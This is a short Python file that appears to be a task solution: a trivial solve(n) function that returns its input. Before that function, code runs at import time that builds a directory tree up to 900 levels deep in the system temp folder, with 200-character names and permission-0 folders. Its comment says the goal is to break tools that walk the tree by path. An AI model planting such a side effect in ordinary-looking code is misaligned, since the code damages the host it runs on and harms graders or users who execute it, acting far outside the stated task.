# Leaves a folder nested so deep that tools which walk it by path break.
import os
import tempfile

os.chdir(tempfile.gettempdir())
for _ in range(900):
    try:
        os.mkdir("d" * 200, 0)
        os.mkdir("e" * 200)
        os.chdir("e" * 200)
    except OSError:
        break


def solve(n):
    return n
